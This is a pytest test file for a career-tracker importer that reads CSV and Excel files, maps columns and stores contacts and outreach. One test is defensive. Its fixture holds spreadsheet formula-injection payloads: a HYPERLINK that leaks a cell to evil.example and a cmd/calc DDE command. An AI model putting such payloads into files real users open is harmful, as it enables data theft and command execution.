"""lib.importer: strict reading, column mapping, per-row plans, and importing through the store
(exactly which rows are stored and which are reported, for every fixture file)."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from lib import importer, queries, store
from lib.importer import STATUS_KNOWN, STATUS_NEW, STATUS_SKIPPED, ImportFileError
from tests.fixtures.workbooks import tracker_xlsx
from tests.unit.conftest import TODAY

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"


def read(name: str) -> importer.Upload:
    return importer.read_upload(name, (FIXTURES / name).read_bytes())


def existing(con, user) -> importer.ExistingRecords:
    return importer.ExistingRecords.from_rows(*queries.import_keys(con, user))


def plan_file(con, user, upload, mapping=None):
    mapping = mapping or importer.guess_mapping(upload.table.headers)
    return importer.plan_rows(upload, mapping, existing(con, user), today=TODAY)


def statuses(plan) -> dict[int, str]:
    return {r.row: r.status for r in plan.rows}


def problems(plan) -> dict[int, str]:
    return {r.row: " ".join(r.problems) for r in plan.rows if r.problems}


def stored_contacts(fetch, user):
    return fetch("SELECT name, organization, title, industry, industry_other, how_found, email,"
                 " profile_url, notes FROM contacts WHERE user_id = ? ORDER BY id", user)


# --- the career-centre tracker ---------------------------------------------------------------

def test_tracker_guesses_every_column():
    upload = read("career_centre_tracker.csv")
    assert upload.kind == "tracker"
    assert importer.guess_mapping(upload.table.headers) == [
        "name", "organization", "title", "industry", "email", "profile_url", "how_found",
        "sent_on", "channel", "outcome", "response_on", "held_on", "thank_you", "notes"]


def test_tracker_import_stores_exactly_the_planned_records(con, user, fetch):
    plan = plan_file(con, user, read("career_centre_tracker.csv"))
    assert statuses(plan) == {2: STATUS_NEW, 3: STATUS_NEW, 4: STATUS_NEW, 5: STATUS_NEW,
                              6: STATUS_NEW, 7: STATUS_NEW}
    assert plan.counts == {"contacts": 5, "outreach": 5, "conversations": 2, "insights": 0}
    notes = {r.row: " ".join(r.notes) for r in plan.rows}
    assert "stored as Other (Fintech)" in notes[5]
    assert "No response date" in notes[5] and "Thank-you sent without a date" in notes[5]

    assert store.write_batch(con, user, plan.batch) == plan.counts
    assert stored_contacts(fetch, user) == [
        ("Maya Chen", "Acme Health", "Product Manager", "Healthcare", None, "alumni",
         "maya.chen@acme.example", "https://www.linkedin.com/in/mayachen",
         "Met at the alumni mixer"),
        ("Tom Okafor", "Bright Bank", "Analyst", "Finance & Banking", None, "linkedin",
         "tom@brightbank.example", "https://linkedin.com/in/tomokafor", None),
        ("Priya Natarajan", "Gridworks", "Engineer", "Other", "Fintech", "event", None, None,
         'Said: "call me any time", very kind'),
        ("Luis Romero", "City of Springfield", "Planner", "Government & Public Policy", None,
         "referral", None, None, None),
        ("Ana Silva", "Silva, Costa & Partners", "Associate", "Law", None, "other",
         "ana@scp.example", None, "Want to reach out in March"),
    ]
    D = dt.date
    assert fetch("SELECT c.name, o.sent_on, o.channel, o.attempt, o.outcome, o.response_on"
                 " FROM outreach o JOIN contacts c ON c.id = o.contact_id"
                 " ORDER BY o.sent_on") == [
        ("Maya Chen", D(2026, 2, 2), "email", 1, "accepted", D(2026, 2, 4)),
        ("Tom Okafor", D(2026, 2, 3), "linkedin", 1, "declined", D(2026, 2, 6)),
        ("Priya Natarajan", D(2026, 2, 5), "email", 1, "accepted", D(2026, 2, 5)),
        ("Luis Romero", D(2026, 2, 9), "phone", 1, "pending", None),
        ("Maya Chen", D(2026, 2, 16), "linkedin", 2, "pending", None),
    ]
    assert fetch("SELECT c.name, v.held_on, v.format, v.thank_you_on FROM conversations v"
                 " JOIN contacts c ON c.id = v.contact_id ORDER BY v.held_on") == [
        ("Maya Chen", D(2026, 2, 10), "video", D(2026, 2, 11)),
        ("Priya Natarajan", D(2026, 2, 20), "video", D(2026, 2, 20)),
    ]


def test_importing_the_same_file_twice_stores_nothing_new(con, user, fetch):
    first = plan_file(con, user, read("career_centre_tracker.csv"))
    store.write_batch(con, user, first.batch)
    before = queries.table_counts(con, user)
    again = plan_file(con, user, read("career_centre_tracker.csv"))
    assert set(statuses(again).values()) == {STATUS_KNOWN}
    assert again.counts == {"contacts": 0, "outreach": 0, "conversations": 0, "insights": 0}
    store.write_batch(con, user, again.batch)
    assert queries.table_counts(con, user) == before


def test_the_full_view_of_existing_records_agrees_with_the_tracker_keys(con, user, build):
    """The Import page builds ExistingRecords from store.existing_keys (it also knows the
    coaching records, for exports): for a tracker it must say exactly what the tracker keys
    say, and know which ids stand behind each key."""
    ada = build.contact("Ada", organization="Engines")
    twin = build.contact(" ada ", organization="ENGINES")  # the same key, a second contact
    first = build.outreach(ada, "2026-03-02")
    second = build.outreach(ada, "2026-03-02", "phone")
    talk = build.conversation(twin, held_on="2026-03-05")
    tracker = importer.ExistingRecords.from_rows(*queries.import_keys(con, user))
    full = importer.ExistingRecords.from_keys(store.existing_keys(con, user))
    assert (full.contacts, full.outreach, full.conversations, full.same_key) == (
        tracker.contacts, tracker.outreach, tracker.conversations, tracker.same_key)
    assert full.same_key[("ada", "engines")] == (ada, twin)
    assert full.outreach_ids == {(ada, dt.date(2026, 3, 2)): (first, second)}
    assert full.conversation_ids == {(twin, dt.date(2026, 3, 5)): (talk,)}
    assert full.goals == (5, False, None, None)

    plan = importer.plan_rows(read("career_centre_tracker.csv"),
                              importer.guess_mapping(read("career_centre_tracker.csv")
                                                     .table.headers), full, today=TODAY)
    store.write_batch(con, user, plan.batch)
    again = importer.plan_rows(read("career_centre_tracker.csv"),
                               importer.guess_mapping(read("career_centre_tracker.csv")
                                                      .table.headers),
                               importer.ExistingRecords.from_keys(store.existing_keys(con, user)),
                               today=TODAY)
    assert set(statuses(again).values()) == {STATUS_KNOWN}


def test_an_existing_contact_is_reused_by_id(con, user, build, fetch):
    maya = build.contact("maya chen ", organization="ACME HEALTH", industry="Healthcare")
    plan = plan_file(con, user, read("career_centre_tracker.csv"))
    row2 = next(r for r in plan.rows if r.row == 2)
    assert row2.contact == "already in your contacts"
    assert [o.contact for o in plan.batch.outreach[:2]] == [maya, maya]
    store.write_batch(con, user, plan.batch)
    assert fetch("SELECT count(*) FROM contacts WHERE lower(name) LIKE 'maya%'") == [(1,)]
    assert fetch("SELECT count(*) FROM outreach WHERE contact_id = ?", maya) == [(2,)]


def test_a_message_already_logged_is_not_repeated(con, user, build):
    maya = build.contact("Maya Chen", organization="Acme Health")
    build.outreach(maya, "2026-02-02")
    plan = plan_file(con, user, read("career_centre_tracker.csv"))
    row2 = next(r for r in plan.rows if r.row == 2)
    assert row2.outreach == "2026-02-02: already there"
    assert row2.status == STATUS_NEW  # its conversation is new
    assert plan.counts["outreach"] == 4


# --- LinkedIn --------------------------------------------------------------------------------

def test_linkedin_connections_are_recognised_after_the_notes():
    upload = read("linkedin_connections.csv")
    assert upload.kind == "linkedin"
    assert upload.table.headers == importer.LINKEDIN_HEADER
    assert upload.table.lines_before_header == 3
    assert upload.table.row_numbers == [5, 6, 7, 8, 9]
    assert importer.guess_mapping(upload.table.headers) == [
        "first_name", "last_name", "profile_url", "email", "organization", "title", None]


def test_linkedin_import_keeps_the_chosen_connections(con, user, fetch):
    upload = read("linkedin_connections.csv")
    frame = upload.table.frame()
    keep = frame.index[frame["Company"].fillna("").str.contains("northwind", case=False)
                       | frame["Position"].fillna("").str.contains("nurse", case=False)]
    table = upload.table.subset(keep)
    plan = importer.plan_rows(table, importer.guess_mapping(table.headers),
                              existing(con, user), today=TODAY, linkedin=True)
    assert statuses(plan) == {5: STATUS_NEW, 7: STATUS_NEW, 9: STATUS_NEW}
    store.write_batch(con, user, plan.batch)
    assert fetch("SELECT name, organization, title, how_found, email, profile_url FROM contacts"
                 " ORDER BY id") == [
        ("Grace Ho", "Northwind Analytics", "Data Scientist", "linkedin", "grace@example.org",
         "https://www.linkedin.com/in/graceho"),
        ("Ines Moreau", "Fabrikam Health", "Nurse Practitioner", "linkedin", None,
         "https://www.linkedin.com/in/inesmoreau"),
        ("Kenji Watanabe", "Northwind Analytics", "Recruiter", "linkedin", None,
         "https://www.linkedin.com/in/kenjiw"),
    ]


def test_linkedin_connection_without_a_name_is_skipped_with_the_reason(con, user):
    plan = plan_file(con, user, read("linkedin_connections.csv"))
    assert statuses(plan) == {5: STATUS_NEW, 6: STATUS_NEW, 7: STATUS_NEW, 8: STATUS_SKIPPED,
                              9: STATUS_NEW}
    assert "No name" in problems(plan)[8]
    assert plan.batch.contacts[1].contact.organization == "Contoso, Inc."


# --- bad rows --------------------------------------------------------------------------------

def test_bad_rows_are_reported_never_shifted(con, user, fetch):
    upload = read("bad_rows.csv")
    assert [(p.row, p.message.split(" — ")[0]) for p in upload.table.bad_rows] == [
        (3, "Row 3 has 7 fields but the header has 6"),
        (4, "Row 4 has 3 fields but the header has 6"),
    ]
    plan = plan_file(con, user, upload)
    assert statuses(plan) == {2: STATUS_NEW, 5: STATUS_SKIPPED, 6: STATUS_SKIPPED,
                              7: STATUS_SKIPPED, 8: STATUS_SKIPPED, 9: STATUS_NEW}
    reasons = problems(plan)
    assert "“2026-02-30” is not a date" in reasons[5]
    assert "No name" in reasons[6]
    assert "can't be in the future" in reasons[7]
    assert "Channel “Carrier pigeon”" in reasons[8]
    store.write_batch(con, user, plan.batch)
    assert fetch("SELECT c.name, c.organization, o.sent_on, o.channel FROM contacts c"
                 " JOIN outreach o ON o.contact_id = c.id ORDER BY c.id") == [
        ("Good One", "Alpha Co", dt.date(2026, 3, 2), "email"),
        ("Good Three", "Theta Co", dt.date(2026, 3, 6), "email"),
    ]


def test_broken_quotes_are_reported_with_their_row():
    data = b'Name,Notes\nAda,"fine"\nBob,"bad"quote\nCy,"spans\ntwo lines"\nDee,ok\n'
    table = importer.read_csv_bytes(data)
    assert [p.row for p in table.bad_rows] == [3]
    assert table.rows == [["Ada", "fine"], ["Cy", "spans\ntwo lines"], ["Dee", "ok"]]
    assert table.row_numbers == [2, 4, 6]


def test_header_only_and_blank_lines():
    table = importer.read_csv_bytes(b"\n\nName,Company\n\n")
    assert table.headers == ["Name", "Company"] and table.rows == []
    with pytest.raises(ImportFileError, match="empty"):
        importer.read_upload("x.csv", b"   \n")


# --- encodings and separators ----------------------------------------------------------------

def test_windows_1252_with_semicolons_and_a_corrected_mapping(con, user, fetch):
    upload = read("windows_1252_semicolon.csv")
    table = upload.table
    assert (table.encoding, table.delimiter) == ("cp1252", ";")
    mapping = importer.guess_mapping(table.headers)
    assert mapping[1] is None  # “Société” is not guessed…
    mapping[1] = "organization"  # …the student picks Organization for it
    plan = importer.plan_rows(upload, mapping, existing(con, user), today=TODAY)
    assert "day first" in plan.notes[0]
    assert set(statuses(plan).values()) == {STATUS_NEW}
    store.write_batch(con, user, plan.batch)
    assert fetch("SELECT name, organization, industry, notes FROM contacts ORDER BY id") == [
        ("José Müller", "Crédit Genève", "Finance & Banking", "Très sympa – 5 € café"),
        ("Zoë Lefèvre", "Café Noël", "Hospitality & Tourism", None),
        ("François Dœuf", "Öko Énergie", "Energy & Environment", "Rendez-vous à Zürich"),
    ]
    assert fetch("SELECT sent_on, channel, outcome FROM outreach ORDER BY sent_on") == [
        (dt.date(2026, 2, 14), "email", "accepted"),
        (dt.date(2026, 3, 3), "linkedin", "declined"),
        (dt.date(2026, 3, 5), "phone", "accepted"),
    ]
    assert fetch("SELECT held_on FROM conversations") == [(dt.date(2026, 3, 10),)]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_utf8_with_and_without_bom(encoding):
    data = "Name;Company\nJosé Müller;Café Noël\n".encode(encoding)
    table = importer.read_csv_bytes(data)
    assert table.headers == ["Name", "Company"]  # no BOM glued to the first header
    assert table.rows == [["José Müller", "Café Noël"]]
    assert table.encoding == "utf-8-sig" and table.delimiter == ";"


def test_commas_inside_quotes_do_not_make_a_semicolon_file():
    assert importer.sniff_delimiter('"Name; first";Company;Notes') == ";"
    assert importer.sniff_delimiter('"Company; Inc",Name,Notes') == ","


def test_nul_bytes_are_no_csv():
    with pytest.raises(ImportFileError, match="NUL"):
        importer.read_csv_bytes(b"Name\x00,Company\nA,B\n")


# --- formulas --------------------------------------------------------------------------------

def test_formula_cells_are_stored_as_plain_text(con, user, fetch):
    plan = plan_file(con, user, read("formulas.csv"))
    assert statuses(plan) == {2: STATUS_NEW, 3: STATUS_NEW, 4: STATUS_NEW, 5: STATUS_SKIPPED,
                              6: STATUS_NEW}
    assert "“=TODAY()” is not a date" in problems(plan)[5]
    store.write_batch(con, user, plan.batch)
    assert fetch("SELECT name, organization, title, notes FROM contacts ORDER BY id") == [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "Evil Corp", "Manager",
         "plain note"),
        ("Plus Person", "+cmd|' /C calc'!A0", "Engineer", "ok"),
        ("Minus Person", "Numbers Ltd", "-2+3", "@SUM(1+1)"),
        ("Quote Person", "Quote Co", "Analyst", "'quoted already"),
    ]


# --- Excel -----------------------------------------------------------------------------------

def test_excel_tracker(con, user, fetch):
    upload = importer.read_upload("tracker.xlsx", tracker_xlsx())
    assert upload.kind == "tracker"
    table = upload.table
    assert importer.guess_mapping(table.headers) == [
        "name", "organization", "title", "industry", "sent_on", "channel", "outcome",
        "held_on", "duration_min", "thank_you", "notes"]
    assert [(p.row, "no header" in p.message) for p in table.bad_rows] == [(6, True)]
    plan = plan_file(con, user, upload)
    assert statuses(plan) == {2: STATUS_NEW, 3: STATUS_NEW, 5: STATUS_SKIPPED,
                              7: STATUS_SKIPPED}
    assert "“not sure” is not a date" in problems(plan)[5]
    assert "No name" in problems(plan)[7]
    store.write_batch(con, user, plan.batch)
    assert fetch("SELECT name, industry FROM contacts ORDER BY id") == [
        ("Rosa Park", "Transportation & Logistics"), ("Omar Haddad", "Architecture & Design")]
    assert fetch("SELECT held_on, duration_min, thank_you_on FROM conversations") == [
        (dt.date(2026, 2, 12), 45, dt.date(2026, 2, 12))]
    assert fetch("SELECT sent_on, outcome FROM outreach ORDER BY sent_on") == [
        (dt.date(2026, 2, 2), "accepted"), (dt.date(2026, 2, 3), "pending")]


def test_excel_escapes_are_decoded():
    """Excel writes a carriage return inside a cell as _x000D_ (openpyxl leaves it so)."""
    from openpyxl import Workbook
    import io

    book = Workbook()
    book.active.append(["Name", "Notes"])
    book.active.append(["Ada", "line one_x000D_\nline two, _x005F_x0041_ stays"])
    buffer = io.BytesIO()
    book.save(buffer)
    table = importer.read_upload("t.xlsx", buffer.getvalue()).table
    assert table.rows == [["Ada", "line one\r\nline two, _x0041_ stays"]]


def test_not_really_an_excel_file():
    with pytest.raises(ImportFileError, match="not a valid Excel"):
        importer.read_upload("tracker.xlsx", b"Name,Company\nA,B\n")
    with pytest.raises(ImportFileError, match="xlsx or .csv"):
        importer.read_upload("tracker.xls", b"\xd0\xcf\x11\xe0 old excel")
    with pytest.raises(ImportFileError, match="damaged"):
        importer.read_upload("tracker.xlsx", b"PK\x03\x04 not a zip at all")


# --- limits ----------------------------------------------------------------------------------

def test_files_over_ten_megabytes_are_refused():
    data = b"Name,Notes\n" + b"A," + b"x" * importer.MAX_BYTES + b"\n"
    with pytest.raises(ImportFileError, match="limit is 10 MB"):
        importer.read_upload("big.csv", data)


def test_at_most_fifty_thousand_rows():
    header = b"Name,Company\n"
    rows = b"".join(b"P%d,Org\n" % i for i in range(importer.MAX_ROWS))
    assert len(importer.read_csv_bytes(header + rows)) == importer.MAX_ROWS
    with pytest.raises(ImportFileError, match="more than 50,000 rows"):
        importer.read_csv_bytes(header + rows + b"One,Too many\n")


def test_a_long_file_reports_progress(con, user):
    rows = b"".join(b"Person %d,Org %d,2026-03-02\n" % (i, i) for i in range(1200))
    upload = importer.read_upload("long.csv", b"Name,Company,Date Contacted\n" + rows)
    seen = []
    plan = importer.plan_rows(upload, importer.guess_mapping(upload.table.headers),
                              existing(con, user), today=TODAY, progress=seen.append)
    assert seen[0] == 0 and seen[-1] == 1.0 and len(seen) >= 3
    assert plan.counts["contacts"] == 1200


# --- mapping and values ----------------------------------------------------------------------

@pytest.mark.parametrize("header, field", [
    ("Name", "name"), ("Full Name", "name"), ("Contact", "name"),
    ("Company", "organization"), ("Organization", "organization"), ("Employer", "organization"),
    ("Title", "title"), ("Role", "title"), ("Position", "title"), ("Industry", "industry"),
    ("Email", "email"), ("E-mail", "email"), ("LinkedIn", "profile_url"),
    ("Profile", "profile_url"), ("URL", "profile_url"), ("How found", "how_found"),
    ("Source", "how_found"), ("Date Contacted", "sent_on"), ("Outreach Date", "sent_on"),
    ("Contacted On", "sent_on"), ("Channel", "channel"), ("Method", "channel"),
    ("Response", "outcome"), ("Replied?", "outcome"), ("Outcome", "outcome"),
    ("Response Date", "response_on"), ("Date of Interview", "held_on"),
    ("Conversation Date", "held_on"), ("Interview Date", "held_on"), ("Notes", "notes"),
    ("Thank you sent", "thank_you"), ("Thank-you date", "thank_you"),
    ("Date Contacted (MM/DD/YYYY)", "sent_on"), ("LinkedIn Profile URL", "profile_url"),
    ("Favourite colour", None), ("", None),
])
def test_header_synonyms(header, field):
    assert importer.guess_field(header) == field


def test_a_field_is_guessed_for_one_column_only():
    assert importer.guess_mapping(["Name", "Full Name", "Company"]) == [
        "name", None, "organization"]
    assert importer.guess_mapping(["First Name", "Name"]) == [None, "name"]


def test_mapping_problems():
    assert importer.mapping_problems(["name", "organization"]) == []
    assert "more than one column" in importer.mapping_problems(["name", "name"])[0]
    assert "person's name" in importer.mapping_problems(["organization", None])[0]


def test_mapping_must_fit_the_table(con, user):
    upload = read("bad_rows.csv")
    with pytest.raises(ValueError):
        importer.plan_rows(upload, ["name"], existing(con, user), today=TODAY)


@pytest.mark.parametrize("cell, outcome", [
    ("Yes", "accepted"), ("replied", "accepted"), ("Accepted - call booked", "accepted"),
    ("No", "pending"), ("", "pending"), ("no response", "pending"), ("Not yet", "pending"),
    ("No - ghosted", "pending"),
    ("Declined", "declined"), ("not interested", "declined"), ("no thanks", "declined"),
    ("maybe?", None),
])
def test_response_values(cell, outcome):
    assert importer.response_outcome(cell) == outcome


@pytest.mark.parametrize("cell, industry", [
    ("technology", "Technology"), ("Tech", "Technology"), ("Finance", "Finance & Banking"),
    ("NON-PROFIT", "Nonprofit & Social Impact"), ("Space mining", None),
])
def test_industry_values(cell, industry):
    assert importer.match_industry(cell) == industry


def test_day_or_month_first():
    assert importer.day_first(["03/04/2026", "25/04/2026"], ",") is True
    assert importer.day_first(["03/04/2026", "04/25/2026"], ";") is False
    assert importer.day_first(["03/04/2026"], ",") is False
    assert importer.day_first(["03/04/2026"], ";") is True
    assert importer.day_first(["03.04.2026"], ",") is True
    assert importer.read_date("03/04/26", True) == dt.date(2026, 4, 3)
    assert importer.read_date("31/02/2026", True) == "31/02/2026"
